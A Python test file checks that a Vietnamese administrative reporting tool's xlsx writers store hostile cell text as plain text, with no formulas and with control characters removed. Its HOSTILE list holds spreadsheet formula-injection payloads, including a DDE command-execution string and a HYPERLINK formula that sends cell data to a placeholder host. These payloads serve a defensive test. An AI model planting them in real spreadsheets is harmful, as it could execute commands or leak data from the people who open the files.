"""Every workbook cchc writes stores hostile text as inert text: no formula, no crash.

A plan whose cells start with ``=`` (``=HYPERLINK(…)``, ``=cmd|' /C calc'!A0``) or hold
control characters (Word's manual line break ``\\x0b``, an escape sequence) goes through
every xlsx writer; each file must hold no formula at all, and the hostile text must be
there, as text. ``WRITERS`` lists the writers: a new writer (the dossier statistics of
Biểu 06, …) is one more entry.
"""

from __future__ import annotations

import re
import zipfile
from collections.abc import Callable
from pathlib import Path

import openpyxl
import pytest
from conftest import SEED

from cchc_lib import cli
from cchc_lib.xlsx import safe_text, set_value

HOSTILE = [
    '=HYPERLINK("http://x.invalid/?q="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+SUM(1;2)",
    "@SUM(A1:A2)",
    "-2+3",
    "Dòng một\x0bdòng hai \x1b[31mđỏ\x1b[0m\x07",
]


def hostile_plan(folder: Path) -> Path:
    """The seed plan with hostile text in the task and product cells of four rows."""
    lines = SEED.read_text(encoding="utf-8").splitlines()
    rows = [i for i, line in enumerate(lines) if line.count("\t") >= 8][2:6]
    for n, i in enumerate(rows):
        cells = lines[i].split("\t")
        cells[2] = HOSTILE[(n + 2) % len(HOSTILE)]
        cells[4] = HOSTILE[(n + 4) % len(HOSTILE)]
        lines[i] = "\t".join(cells)
    path = folder / "ke-hoach-doc-hai.txt"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def run(*argv: str) -> None:
    assert cli.main(list(argv)) == 0, argv


def plan_export(tmp: Path, plan: Path) -> list[Path]:
    run("plan", "export", str(plan), "-o", str(tmp / "ke-hoach.xlsx"))
    return [tmp / "ke-hoach.xlsx"]


def template(tmp: Path, plan: Path) -> list[Path]:
    run("template", "--plan", str(plan), "--month", "2022-03", "-o", str(tmp / "2022-03.xlsx"))
    return [tmp / "2022-03.xlsx"]


def template_from(tmp: Path, plan: Path) -> list[Path]:
    """Last month's workbook with hostile text typed by a unit, carried over by --from."""
    from cchc_lib.monthly.template import PROGRESS_HEADER_ROW, SHEET_PROGRESS

    run("template", "--plan", str(plan), "--month", "2022-02", "-o", str(tmp / "2022-02.xlsx"))
    wb = openpyxl.load_workbook(tmp / "2022-02.xlsx")
    ws = wb[SHEET_PROGRESS]
    for n, r in enumerate(range(PROGRESS_HEADER_ROW + 1, PROGRESS_HEADER_ROW + 5)):
        ws.cell(row=r, column=5).value = "Đang thực hiện"
        cell = ws.cell(row=r, column=8)
        cell.value, cell.data_type = HOSTILE[n], "s"  # typed as text by the unit
    wb.save(tmp / "2022-02.xlsx")
    run(
        "template",
        "--plan",
        str(plan),
        "--month",
        "2022-03",
        "--from",
        str(tmp / "2022-02.xlsx"),
        "-o",
        str(tmp / "2022-03.xlsx"),
    )
    return [tmp / "2022-03.xlsx"]


def sample(tmp: Path, plan: Path) -> list[Path]:
    run("sample", "--plan", str(plan), "--year", "2022", "-o", str(tmp / "data"))
    return sorted((tmp / "data").glob("*.xlsx"))


def dossier_export(tmp: Path, plan: Path) -> list[Path]:
    """Biểu 06 from an export whose field (lĩnh vực) names and agency are hostile."""
    from datetime import date

    from dossier_exports import dossier, rows, write_csv

    table = rows(
        *(
            dossier(f"HS-{n}", date(2022, 1, 3), date(2022, 1, 20), date(2022, 1, 10), field=h)
            for n, h in enumerate(HOSTILE)
        )
    )
    export = write_csv(tmp / "ho-so.csv", table)
    out = tmp / "bieu-06.xlsx"
    run(
        "dossiers",
        "--data",
        str(export),
        "--period",
        "2022-Q1",
        "--format",
        "xlsx",
        "-o",
        str(out),
        "--agency",
        HOSTILE[1],
    )
    return [out]


WRITERS: list[tuple[str, Callable[[Path, Path], list[Path]]]] = [
    ("plan export", plan_export),
    ("template", template),
    ("template --from", template_from),
    ("sample", sample),
    ("dossier Biểu 06", dossier_export),
]


def formulas(path: Path) -> list[str]:
    """Every formula of a workbook, read from its XML (``<f>`` elements) and by openpyxl."""
    found: list[str] = []
    with zipfile.ZipFile(path) as z:
        for name in z.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                found += re.findall(r"<f[ >].*?</f>", z.read(name).decode("utf-8"))
    wb = openpyxl.load_workbook(path)
    for ws in wb.worksheets:
        found += [str(c.value) for row in ws.iter_rows() for c in row if c.data_type == "f"]
    return found


def texts(path: Path) -> set[str]:
    wb = openpyxl.load_workbook(path)
    return {
        c.value
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for c in row
        if isinstance(c.value, str)
    }


@pytest.mark.slow  # sample writes twelve workbooks
@pytest.mark.parametrize(("name", "writer"), WRITERS, ids=[w[0] for w in WRITERS])
def test_every_writer_stores_hostile_text_as_text(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str, writer
) -> None:
    monkeypatch.chdir(tmp_path)
    plan = hostile_plan(tmp_path)
    files = writer(tmp_path, plan)
    assert files
    written: set[str] = set()
    for path in files:
        assert formulas(path) == [], (name, path.name)
        written |= texts(path)
    blob = "\n".join(written)
    # the hostile text is there, as text (so the test cannot pass by writing nothing)
    assert any(h[:12] in blob for h in HOSTILE[:4]), name
    assert "\x0b" not in blob and "\x1b" not in blob and "\x07" not in blob


def test_set_value_keeps_text_as_text() -> None:
    wb = openpyxl.Workbook()
    cell = wb.active["A1"]
    set_value(cell, "=1+1")
    assert cell.value == "=1+1" and cell.data_type == "s"
    set_value(cell, 3)
    assert cell.value == 3 and cell.data_type == "n"
    assert safe_text("a\x0bb\r\nc\x1b[0m\x00") == "a\nb\nc[0m"
